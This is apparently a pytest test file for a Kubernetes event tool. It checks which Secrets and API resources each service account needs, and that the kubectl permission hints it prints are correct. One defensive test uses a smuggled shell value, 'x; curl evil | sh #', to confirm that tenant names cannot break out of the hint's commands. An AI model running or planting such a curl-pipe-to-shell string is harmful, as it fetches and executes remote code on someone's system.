"""What the accounts of a namespace need, and how a person is told."""

import itertools
import shlex

import pytest

from events.model import SpecModel, inner_model
from events.ports import SecretRef
from kikkake.grants import (
    Account,
    ResourceName,
    accesses_by_namespace,
    grant_hint,
    guess_resource,
    known_resources,
    needs_by_account,
    needs_of_source,
)
from sensors.access import Access, Needs, reading
from sources.selector import SecretSelector
from sources.source import SOURCES, PushSource
from tests.kikkake.grants import source
from tests.sensors.needing import sensor_of

NEVER_READ = {
    ("github", "apiToken"),
    ("github", "githubApp.privateKey"),
    ("kafka", "schemaRegistry.auth"),
}
"""Selectors of fields that this build does not carry out."""
MEMBERS = {
    "webhook": {"port": "12000", "endpoint": "/x", "method": "POST"},
    "github": {"webhook": {"port": "12000", "endpoint": "/x"}},
    "kafka": {"url": "k:9092", "topic": "t", "partition": "0"},
}
CONTEXT = {"port": "12000", "endpoint": "/x", "method": "POST"}


def filled(model: type[SpecModel], path=""):
    """A value with a selector in every place for one; the Secret is named for the place."""
    value = {}
    for name, info in model.model_fields.items():
        member = info.alias or name
        where = f"{path}.{member}".strip(".")
        inner = inner_model(info.annotation)
        if inner is None or inner is model:
            continue
        if issubclass(inner, SecretSelector):
            found = {"name": where, "key": "k"}
        elif not (found := filled(inner, where)):
            continue
        text = str(info.annotation)
        value[member] = [found] if "list[" in text else {"a": found} if "dict[" in text else found
    return value


def merged(one, other):
    both = {**one, **other}
    shared = {name for name in one if name in other and isinstance(one[name], dict)}
    return both | {name: merged(one[name], other[name]) for name in shared}


def names_in(value):
    if isinstance(value, dict):
        if set(value) == {"name", "key"}:
            yield value["name"]
        else:
            yield from itertools.chain.from_iterable(map(names_in, value.values()))
    elif isinstance(value, list):
        yield from itertools.chain.from_iterable(map(names_in, value))


@pytest.mark.parametrize("kind", SOURCES.names())
def test_an_event_source_needs_every_secret_that_its_kind_names(kind):
    """A new kind that forgets one of its Secrets, or reads one that nobody is told of, fails here."""
    family = SOURCES.get(kind)
    given = filled(family.Config)
    rest = MEMBERS.get(kind) or ({"webhook": CONTEXT} if "webhook" in family.Config.model_fields else CONTEXT)
    config = family.Config.model_validate(merged(given, rest))
    made = family(config, namespace="ci", event_source="hook", event_name="push")

    refs = list(made.secret_refs())
    if isinstance(made, PushSource):
        endpoint = made.endpoint()
        refs += [ref for ref in (endpoint.cert, endpoint.key) if ref is not None]
    never = {where for each, where in NEVER_READ if each == kind}
    assert {ref.name for ref in refs} == set(names_in(given)) - never - {f"{each}.a" for each in never}
    assert {(ref.namespace, ref.kind) for ref in refs} <= {("ci", "Secret")}


def test_certificates_of_a_port_and_the_secrets_of_all_events_are_read_and_watched():
    spec = source(
        """
        webhook:
          one: {port: "12000", endpoint: /a, method: POST, authSecret: {name: auth, key: a},
                serverCertSecret: {name: tls, key: crt}, serverKeySecret: {name: tls, key: key}}
          two: {port: "12000", endpoint: /b, method: POST, authSecret: {name: auth, key: b},
                serverCertSecret: {name: tls, key: crt}, serverKeySecret: {name: tls, key: key}}
        """
    )
    assert {(access.verb, access.name) for access in needs_of_source(spec).accesses} == {
        (verb, name) for verb in ("get", "watch") for name in ("auth", "tls")
    }
    assert len(needs_of_source(spec).accesses) == 4


def test_a_resource_acts_as_the_account_that_it_names_or_as_default():
    plain = source('webhook: {one: {port: "1", endpoint: /a, method: POST, authSecret: {name: a, key: k}}}')
    found = needs_by_account(
        [plain, sensor_of("http: {url: http://x, basicAuth: {username: {name: u, key: k}}}")]
    )
    assert list(found) == [Account("ci", "builder"), Account("ci", "default")]
    assert {access.name for access in found[Account("ci", "builder")].accesses} == {"u"}


@pytest.mark.parametrize(
    ("api_version", "kind", "name"),
    [
        ("v1", "ConfigMap", ("", "configmaps", True, False)),
        ("v1", "Endpoints", ("", "endpoints", True, False)),
        ("networking.k8s.io/v1", "NetworkPolicy", ("networking.k8s.io", "networkpolicies", True, False)),
        ("networking.k8s.io/v1", "Ingress", ("networking.k8s.io", "ingresses", True, False)),
        ("storage.k8s.io/v1", "StorageClass", ("storage.k8s.io", "storageclasses", False, False)),
        ("argoproj.io/v1alpha1", "Workflow", ("argoproj.io", "workflows", True, False)),
        ("tekton.dev/v1", "PipelineRun", ("tekton.dev", "pipelineruns", True, True)),
        ("example.com/v1", "Gateway", ("example.com", "gateways", True, True)),
    ],
)
def test_without_a_cluster_a_plural_is_guessed_and_a_strange_group_says_so(api_version, kind, name):
    assert guess_resource(api_version, kind) == ResourceName(*name)


def test_what_the_api_server_said_leads_and_a_kind_that_it_has_not_stays_a_guess():
    resolve = known_resources({("example.com/v1", "Moose"): ResourceName("example.com", "meese", True)})
    assert resolve("example.com/v1", "Moose").plural == "meese"
    assert resolve("batch/v1", "Job").is_guessed


def test_what_belongs_to_no_namespace_is_granted_for_the_cluster():
    access = Access(
        verb="get", api_version="storage.k8s.io/v1", kind="StorageClass", namespace="ci", name="fast"
    )
    assert accesses_by_namespace(Needs((access,)), guess_resource) == {None: [access]}


def test_the_hint_names_every_secret_of_the_account_and_not_only_the_one_that_failed():
    spec = source(
        """
        webhook:
          one: {port: "12000", endpoint: /a, method: POST, authSecret: {name: first, key: a}}
          two: {port: "12000", endpoint: /b, method: POST, authSecret: {name: second, key: b}}
        """
    )
    hint = grant_hint(Account("ci", "default"), needs_of_source(spec), "Secret")
    assert "kikkake migrate --namespace ci -o yaml | kubectl apply -f -" in hint
    assert "--resource-name=first --resource-name=second" in hint
    assert "create rolebinding kikkake-default-secrets --role=kikkake-default-secrets" in hint
    assert reading([]) == Needs()


def test_names_of_tenants_cannot_break_out_of_the_commands_of_the_hint():
    evil = "x; curl evil | sh #"
    ref = SecretRef("ci", evil, "k")
    hint = grant_hint(Account("ci", evil), reading([ref]), "Secret")
    commands = hint.partition("or only to read its secrets: ")[2]
    assert shlex.split(commands).count(f"--resource-name={evil}") == 1
    assert shlex.split(commands).count(f"--serviceaccount=ci:{evil}") == 1
